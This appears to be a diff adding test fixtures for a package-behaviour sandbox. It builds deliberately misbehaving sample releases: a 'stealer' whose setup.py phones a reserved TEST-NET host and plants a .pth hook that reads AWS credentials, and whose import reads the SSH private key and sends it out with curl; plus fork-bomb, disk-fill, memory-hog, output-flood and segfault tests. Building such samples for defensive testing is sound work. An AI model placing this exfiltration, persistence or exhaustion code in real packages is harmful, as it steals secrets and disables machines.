@@ -1,0 +1,252 @@
+"""Sample releases that misbehave on purpose, for the behaviour system tests.
+
+Each builder writes a release with `tests.fakes.dists` (pure data writing: nothing
+here runs on the host) and returns its files, to be served by ``FakePyPI``. The
+code inside only ever runs in a guest. Every sample is small and fast under TCG,
+and each one's findings are told apart by rule id, phase and target, so one
+malicious sample can carry several behaviours at once:
+
+| builder | does | where |
+|---|---|---|
+| `clean` | nothing unusual | - |
+| `stealer` | ``setup.py``: TCP connect to 203.0.113.7:443, drops a code ``.pth`` | install |
+| | import: reads ``~/.ssh/id_rsa``, runs ``sh -c "curl ... <bait token>"`` | import |
+| `segfault` | a test dereferences NULL through ctypes | tests |
+| `fork_bomb` | a test forks until ``fork`` fails 60 times (RLIMIT_NPROC), children wait | tests |
+| `disk_fill` | a test allocates (``fallocate``) then writes until ENOSPC | tests |
+| `memory_hog` | a test allocates and touches memory until the guest's OOM killer strikes | tests |
+| `flood` | import prints 1 GiB to stdout (not under pytest) | import |
+
+The resource samples act in one phase only (the others stay clean) so the
+phase a finding or crash lands in is known.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from tests.fakes.dists import build_sdist, dedent, make_project
+
+#: TEST-NET-3: never routable, so nothing leaves even a networked machine by mistake.
+EXFIL_HOST = "203.0.113.7"
+EXFIL_PORT = 443
+#: The .pth `stealer`'s setup.py drops into the venv's site-packages.
+STEALER_PTH = "zz_stealer_hook.pth"
+
+_STEALER_SETUP = dedent(
+    f"""
+    # The sdist's build backend (pyproject: backend-path ["."], build-backend "setup"):
+    # what setup.py is under setuptools, minus the need for setuptools in the guest.
+    import base64
+    import hashlib
+    import os
+    import socket
+    import sysconfig
+    import zipfile
+
+    # "phone home" at build time: the guest has no network, the attempt is the evidence
+    try:
+        socket.create_connection(({EXFIL_HOST!r}, {EXFIL_PORT}), timeout=2).close()
+    except OSError:
+        pass
+    # persistence: a .pth with an import line runs at every interpreter start
+    try:
+        hook = os.path.join(sysconfig.get_paths()["purelib"], {STEALER_PTH!r})
+        with open(hook, "w") as f:
+            f.write("import os; p = os.path.expanduser('~/.aws/credentials'); "
+                    "os.path.exists(p) and open(p).read()\\n")
+    except OSError:
+        pass
+
+
+    def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+        info = "stealer-1.0.dist-info"
+        files = {{
+            "stealer/__init__.py": open("stealer/__init__.py", "rb").read(),
+            info + "/METADATA": b"Metadata-Version: 2.1\\nName: stealer\\nVersion: 1.0\\n",
+            info + "/WHEEL": b"Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
+        }}
+        record = []
+        for path, data in files.items():
+            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=")
+            record.append(f"{{path}},sha256={{digest.decode()}},{{len(data)}}")
+        record.append(info + "/RECORD,,")
+        files[info + "/RECORD"] = ("\\n".join(record) + "\\n").encode()
+        name = "stealer-1.0-py3-none-any.whl"
+        with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as whl:
+            for path, data in files.items():
+                whl.writestr(path, data)
+        return name
+    """
+)
+
+_STEALER_INIT = dedent(
+    f"""
+    import os
+    import subprocess
+
+    __version__ = "1.0"
+
+    try:
+        with open(os.path.expanduser("~/.ssh/id_rsa")) as key:
+            _key = key.read()
+    except OSError:
+        _key = ""
+    _token = os.environ.get("PYTI_BAIT_TOKEN", "")
+    subprocess.run(
+        ["sh", "-c", "curl -s -m 2 -d @- https://{EXFIL_HOST}/c?t=" + _token],
+        input=_key, text=True, capture_output=True, check=False,
+    )
+    """
+)
+
+SEGFAULT_TEST = dedent(
+    """
+    import ctypes
+
+
+    def test_dereferences_null():
+        ctypes.string_at(0)
+    """
+)
+
+FORK_BOMB_TEST = dedent(
+    """
+    import os
+    import signal
+
+
+    def test_forks_until_refused():
+        children, refused = 0, 0
+        while refused < 60:
+            try:
+                pid = os.fork()
+            except OSError:  # EAGAIN: RLIMIT_NPROC reached
+                refused += 1
+                continue
+            if pid == 0:
+                try:
+                    signal.pause()
+                finally:
+                    os._exit(0)
+            children += 1
+        assert children > 0
+    """
+)
+
+DISK_FILL_TEST = dedent(
+    """
+    import errno
+    import os
+
+
+    def test_fills_the_disk(tmp_path):
+        n, hit = 0, False
+        while not hit and n < 10_000:
+            n += 1
+            fd = os.open(tmp_path / f"fill{n}", os.O_WRONLY | os.O_CREAT, 0o600)
+            try:
+                os.posix_fallocate(fd, 0, 256 << 20)
+            except OSError as exc:
+                hit = exc.errno == errno.ENOSPC
+            finally:
+                os.close(fd)
+        with open(tmp_path / "tail", "wb") as f:  # what fallocate left over
+            try:
+                while True:
+                    f.write(b"x" * (1 << 20))
+                    f.flush()
+            except OSError as exc:
+                assert exc.errno == errno.ENOSPC
+        assert hit
+    """
+)
+
+MEMORY_HOG_TEST = dedent(
+    """
+    def test_eats_memory():
+        hoard = []
+        for _ in range(1024):  # 32 GiB: far past any guest's RAM
+            hoard.append(b"\\x01" * (32 << 20))
+    """
+)
+
+FLOOD_INIT = dedent(
+    """
+    import os
+    import sys
+
+    __version__ = "1.0"
+
+    if "pytest" not in sys.modules:
+        _line = b"A" * 1023 + b"\\n"
+        _block = _line * 1024
+        for _ in range(1024):  # 1 GiB
+            os.write(1, _block)
+    """
+)
+
+STEALER_TEST = "import stealer\n\n\ndef test_version():\n    assert stealer.__version__\n"
+UNIMPORTING_TEST = "def test_nothing():\n    assert True\n"
+STEALER_PYPROJECT = dedent(
+    """
+    [build-system]
+    requires = []
+    build-backend = "setup"
+    backend-path = ["."]
+
+    [project]
+    name = "stealer"
+    version = "1.0"
+    dependencies = []
+    """
+)
+
+
+def _literal(body: str) -> str:
+    """``body`` protected from ``make_project``'s ``str.format``."""
+    return body.replace("{", "{{").replace("}", "}}")
+
+
+def clean(dest: Path, name: str = "cleanpkg", version: str = "1.0") -> list[Path]:
+    """A release that does nothing unusual (sdist + wheel with a passing test)."""
+    return make_project(dest, name, version).files
+
+
+def stealer(dest: Path) -> list[Path]:
+    """An sdist only, so its build code (``setup.py``) runs at install time in the guest."""
+    files = {
+        "setup.py": _STEALER_SETUP,
+        "stealer/__init__.py": _STEALER_INIT,
+        "tests/test_x.py": STEALER_TEST,
+        "pyproject.toml": STEALER_PYPROJECT,
+    }
+    return [build_sdist(dest, "stealer", "1.0", files, metadata_version="2.2")]
+
+
+def segfault(dest: Path) -> list[Path]:
+    """A release whose only test segfaults (SIGSEGV in pytest)."""
+    return make_project(dest, "segfaulter", "1.0", test_body=_literal(SEGFAULT_TEST)).files
+
+
+def fork_bomb(dest: Path) -> list[Path]:
+    """A release whose test forks until the process limit refuses."""
+    return make_project(dest, "forkbomb", "1.0", test_body=_literal(FORK_BOMB_TEST)).files
+
+
+def disk_fill(dest: Path) -> list[Path]:
+    """A release whose test fills the guest's disk."""
+    return make_project(dest, "diskfill", "1.0", test_body=_literal(DISK_FILL_TEST)).files
+
+
+def memory_hog(dest: Path) -> list[Path]:
+    """A release whose test allocates memory until it is killed."""
+    return make_project(dest, "memhog", "1.0", test_body=_literal(MEMORY_HOG_TEST)).files
+
+
+def flood(dest: Path) -> list[Path]:
+    """A release whose import prints 1 GiB (its test does not import it)."""
+    return make_project(
+        dest, "flood", "1.0", package_body=_literal(FLOOD_INIT),
+        test_body=UNIMPORTING_TEST,
+    ).files  # fmt: skip
